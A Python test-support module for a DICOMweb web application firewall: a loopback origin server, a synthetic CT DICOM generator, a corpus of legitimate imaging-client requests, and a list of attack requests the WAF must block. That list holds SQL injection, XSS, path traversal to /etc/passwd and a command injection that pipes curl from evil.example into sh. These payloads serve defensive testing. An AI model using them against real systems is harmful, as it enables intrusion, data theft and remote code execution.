"""DICOMweb traffic for the WAF's tests and bench: a real origin and a corpus of requests imaging clients send.

DicomwebOrigin(host).start() / .stop()   a threaded HTTP/1.1 server on loopback that answers every method with
                                         200, reads request bodies in chunks (never whole into memory) and
                                         records, per request, the method, target, headers and the body's size
                                         and SHA-256 (.seen); WADO-RS frames get `frame_size` bytes back
dicom_head(pixel_bytes) -> bytes         a DICOM Part 10 file made by pydicom (CT image, explicit VR LE) up to
                                         its pixel data, which `pixels(n)` streams
stow_body(pixel_bytes, boundary)         a STOW-RS multipart/related body: (length, iterator of chunks)
CORPUS                                   (name, method, target, headers) of QIDO-RS, WADO-RS and WADO-URI
ATTACKS                                  (name, method, target, headers, body) that a WAF must block
"""

from __future__ import annotations

import hashlib
import http.server
import io
import threading
from dataclasses import dataclass, field
from typing import Iterator

from support.net import free_port

STUDY = "1.2.826.0.1.3680043.8.498.10000000000000000000000000000000001"
SERIES = "1.2.826.0.1.3680043.8.498.10000000000000000000000000000000002"
INSTANCE = "1.2.826.0.1.3680043.8.498.10000000000000000000000000000000003"
CT_IMAGE = "1.2.840.10008.5.1.4.1.1.2"
FRAMES_ACCEPT = 'multipart/related; type="application/octet-stream"; transfer-syntax=*'
BASE = "/dicom-web"


@dataclass
class Seen:
    method: str
    target: str
    headers: dict[str, str]
    size: int
    sha256: str


class _Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def _any(self) -> None:
        digest = hashlib.sha256()
        size = 0
        left = int(self.headers.get("Content-Length") or 0)
        while left > 0:
            chunk = self.rfile.read(min(left, 1 << 20))
            if not chunk:
                break
            digest.update(chunk)
            size += len(chunk)
            left -= len(chunk)
        origin: DicomwebOrigin = self.server.origin  # type: ignore[attr-defined]
        with origin.lock:
            headers = {k.lower(): v for k, v in self.headers.items()}  # HAProxy writes names in lower case
            origin.seen.append(Seen(self.command, self.path, headers, size, digest.hexdigest()))
        body = b"\0" * origin.frame_size if "/frames/" in self.path else b'{"ok": true}\n'
        self.send_response(200)
        self.send_header("Content-Type", "application/octet-stream" if "/frames/" in self.path else "application/dicom+json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(body)

    do_GET = do_POST = do_PUT = do_DELETE = do_HEAD = _any

    def log_message(self, *args: object) -> None:
        pass


class _Server(http.server.ThreadingHTTPServer):
    daemon_threads = True
    allow_reuse_address = True

    def handle_error(self, request, client_address) -> None:
        pass


@dataclass
class DicomwebOrigin:
    host: str
    port: int = 0
    frame_size: int = 1024
    seen: list[Seen] = field(default_factory=list)
    lock: threading.Lock = field(default_factory=threading.Lock)
    _server: _Server | None = None

    def start(self) -> "DicomwebOrigin":
        self.port = self.port or free_port(self.host)
        server = _Server((self.host, self.port), _Handler)
        server.origin = self  # type: ignore[attr-defined]
        self._server = server
        threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
        return self

    def stop(self) -> None:
        if self._server is not None:
            self._server.shutdown()
            self._server.server_close()
            self._server = None

    def last(self, target_start: str) -> Seen | None:
        with self.lock:
            return next((s for s in reversed(self.seen) if s.target.startswith(target_start)), None)


def dicom_head(pixel_bytes: int, sop_instance: str = INSTANCE) -> bytes:
    """A CT image as a DICOM Part 10 file (pydicom) up to the header of its Pixel Data element, which declares
    `pixel_bytes` (8-bit, 512 columns; frames of 512x512 above that): the pixel data itself is streamed after it (`pixels`)."""
    import struct

    from pydicom.dataset import FileDataset, FileMetaDataset
    from pydicom.uid import ExplicitVRLittleEndian

    frame = 512 * 512
    assert pixel_bytes > 0 and pixel_bytes % (frame if pixel_bytes >= frame else 512) == 0, "whole rows or 512x512 frames"
    meta = FileMetaDataset()
    meta.MediaStorageSOPClassUID = CT_IMAGE
    meta.MediaStorageSOPInstanceUID = sop_instance
    meta.TransferSyntaxUID = ExplicitVRLittleEndian
    ds = FileDataset(None, {}, file_meta=meta, preamble=b"\0" * 128)
    ds.SOPClassUID = CT_IMAGE
    ds.SOPInstanceUID = sop_instance
    ds.StudyInstanceUID = STUDY
    ds.SeriesInstanceUID = SERIES
    ds.PatientName = "O'Brien^Mary-Ann"
    ds.PatientID = "PAT-0001"
    ds.StudyDescription = "CT HEAD W/O CONTRAST; 5mm <axial>"
    ds.Modality = "CT"
    ds.SamplesPerPixel = 1
    ds.PhotometricInterpretation = "MONOCHROME2"
    ds.Rows = min(pixel_bytes // 512, 512)
    ds.Columns = 512
    if pixel_bytes > frame:
        ds.NumberOfFrames = pixel_bytes // frame
    ds.BitsAllocated = 8
    ds.BitsStored = 8
    ds.HighBit = 7
    ds.PixelRepresentation = 0
    out = io.BytesIO()
    ds.save_as(out, enforce_file_format=True)
    # (7FE0,0010) OB, reserved, 32-bit length: Pixel Data, the last element
    return out.getvalue() + struct.pack("<HH2sHI", 0x7FE0, 0x0010, b"OB", 0, pixel_bytes)


# pixel values that look like text attack patterns match by chance (the body must stream uninspected anyway)
PIXELS = (b"<script>' OR 1=1 -- ../../etc/passwd ;cat $(id) UNION SELECT " * 20000)[: 1 << 20]


def pixels(count: int) -> Iterator[bytes]:
    while count > 0:
        piece = PIXELS[: min(count, len(PIXELS))]
        yield piece
        count -= len(piece)


def dicom_instance(pixel_bytes: int = 512) -> bytes:
    """A whole small DICOM file (for QIDO/WADO answers and small STOW-RS uploads)."""
    return dicom_head(pixel_bytes) + b"".join(pixels(pixel_bytes))


def stow_body(pixel_bytes: int, boundary: str) -> tuple[int, Iterator[bytes]]:
    """A STOW-RS body of one application/dicom part with `pixel_bytes` of pixel data: (its length, its chunks).
    Only the DICOM header is built in memory; the pixel data streams."""
    head = f"--{boundary}\r\nContent-Type: application/dicom\r\n\r\n".encode() + dicom_head(pixel_bytes)
    tail = f"\r\n--{boundary}--\r\n".encode()

    def chunks() -> Iterator[bytes]:
        yield head
        yield from pixels(pixel_bytes)
        yield tail

    return len(head) + pixel_bytes + len(tail), chunks()


S = f"{BASE}/studies/{STUDY}/series/{SERIES}"
INST = f"{S}/instances/{INSTANCE}"
JSON = {"Accept": "application/dicom+json"}

# (name, method, target, headers): what viewers, archives and modalities send (PS3.18)
CORPUS: list[tuple[str, str, str, dict[str, str]]] = [
    ("qido-studies", "GET", f"{BASE}/studies?PatientName=O'Brien*&StudyDate=20240101-20241231&ModalitiesInStudy=CT"
     "&includefield=00081030&includefield=StudyDescription&limit=25&offset=0&fuzzymatching=true", JSON),
    ("qido-patient-id", "GET", f"{BASE}/studies?PatientID=PAT-0001&00100010=D%C3%BCrer%5EAlbrecht*", JSON),
    ("qido-name-caret", "GET", f"{BASE}/studies?PatientName=Smith%5EJohn%5E%5EDr.%5E&AccessionNumber=A-2024-0001", JSON),
    ("qido-description", "GET", f"{BASE}/studies?StudyDescription=*HEAD*%20W%2FO%20CONTRAST&ReferringPhysicianName=*", JSON),
    ("qido-series", "GET", f"{BASE}/studies/{STUDY}/series?Modality=CT&SeriesNumber=3&includefield=all", JSON),
    ("qido-instances", "GET", f"{S}/instances?SOPClassUID={CT_IMAGE}&InstanceNumber=1", JSON),
    ("qido-time-range", "GET", f"{BASE}/studies?StudyDate=20240101&StudyTime=080000-170000.000", JSON),
    ("wado-metadata", "GET", f"{S}/metadata", JSON),
    ("wado-instance-metadata", "GET", f"{INST}/metadata", JSON),
    ("wado-frames", "GET", f"{INST}/frames/1", {"Accept": FRAMES_ACCEPT}),
    ("wado-frames-many", "GET", f"{INST}/frames/1,2,3", {"Accept": FRAMES_ACCEPT}),
    ("wado-frames-jpeg2000", "GET", f"{INST}/frames/1",
     {"Accept": 'multipart/related; type="image/jp2"; transfer-syntax=1.2.840.10008.1.2.4.90'}),
    ("wado-instance", "GET", INST, {"Accept": 'multipart/related; type="application/dicom"; transfer-syntax=1.2.840.10008.1.2.1'}),
    ("wado-study", "GET", f"{BASE}/studies/{STUDY}", {"Accept": 'multipart/related; type="application/dicom"'}),
    ("wado-bulkdata", "GET", f"{INST}/bulkdata/7FE00010", {"Accept": 'multipart/related; type="application/octet-stream"'}),
    ("wado-rendered", "GET", f"{INST}/rendered?quality=90&viewport=512,512&window=40,400,linear", {"Accept": "image/jpeg"}),
    ("wado-rendered-frame", "GET", f"{INST}/frames/1/rendered?viewport=256,256", {"Accept": "image/png"}),
    ("wado-thumbnail", "GET", f"{S}/thumbnail?viewport=128,128", {"Accept": "image/jpeg"}),
    ("wado-uri", "GET", f"/wado?requestType=WADO&studyUID={STUDY}&seriesUID={SERIES}&objectUID={INSTANCE}"
     "&contentType=application%2Fdicom&transferSyntax=1.2.840.10008.1.2.1", {"Accept": "application/dicom"}),
    ("wado-uri-jpeg", "GET", f"/wado?requestType=WADO&studyUID={STUDY}&seriesUID={SERIES}&objectUID={INSTANCE}"
     "&contentType=image%2Fjpeg&rows=512&columns=512&windowCenter=40&windowWidth=400&frameNumber=1", {"Accept": "image/jpeg"}),
]  # fmt: skip

SQLI = "' OR 1=1 UNION SELECT password FROM users--"
# (name, method, target, headers, body): injection in QIDO parameters, headers and JSON bodies
ATTACKS: list[tuple[str, str, str, dict[str, str], bytes | None]] = [
    ("sqli-qido", "GET", f"{BASE}/studies?PatientName=%27%20OR%201%3D1%20UNION%20SELECT%20password%20FROM%20users--", JSON, None),
    ("sqli-qido-id", "GET", f"{BASE}/studies?PatientID=1%3B%20DROP%20TABLE%20patients--", JSON, None),
    ("xss-qido", "GET", f"{BASE}/studies?PatientName=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E", JSON, None),
    ("xss-rendered", "GET", f"{INST}/rendered?annotation=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", {"Accept": "image/jpeg"}, None),
    ("traversal-wado-uri", "GET", "/wado?requestType=WADO&objectUID=..%2F..%2F..%2F..%2Fetc%2Fpasswd&contentType=application%2Fdicom",
     {}, None),
    ("traversal-path", "GET", f"{BASE}/studies/..%5c..%5c..%5cwindows%5cwin.ini", JSON, None),
    ("rce-qido", "GET", f"{BASE}/studies?PatientID=%3Bcat%20%2Fetc%2Fpasswd", JSON, None),
    ("rce-qido-subshell", "GET", f"{BASE}/studies?AccessionNumber=%24(curl%20http%3A%2F%2Fevil.example%2Fx%7Csh)", JSON, None),
    ("sqli-user-agent", "GET", f"{BASE}/studies", {**JSON, "User-Agent": SQLI}, None),
    ("sqli-cookie", "GET", f"{BASE}/studies", {**JSON, "Cookie": f"session={SQLI}"}, None),
    # a frame URL is left uninspected only without a cookie or a query string (the profile's wado-uid-paths)
    ("sqli-cookie-frame", "GET", f"{INST}/frames/1", {"Accept": FRAMES_ACCEPT, "Cookie": f"session={SQLI}"}, None),
    ("xss-frame-query", "GET", f"{INST}/frames/1?x=%3Cscript%3Ealert(1)%3C%2Fscript%3E", {"Accept": FRAMES_ACCEPT}, None),
    ("sqli-json", "POST", f"{BASE}/search", {"Content-Type": "application/json"},
     b'{"PatientName": "' + SQLI.encode() + b'"}'),
    ("xss-dicom-json", "POST", f"{BASE}/studies", {"Content-Type": "application/dicom+json"},
     b'[{"00100010": {"vr": "PN", "Value": [{"Alphabetic": "<script>alert(1)</script>"}]}}]'),
]  # fmt: skip
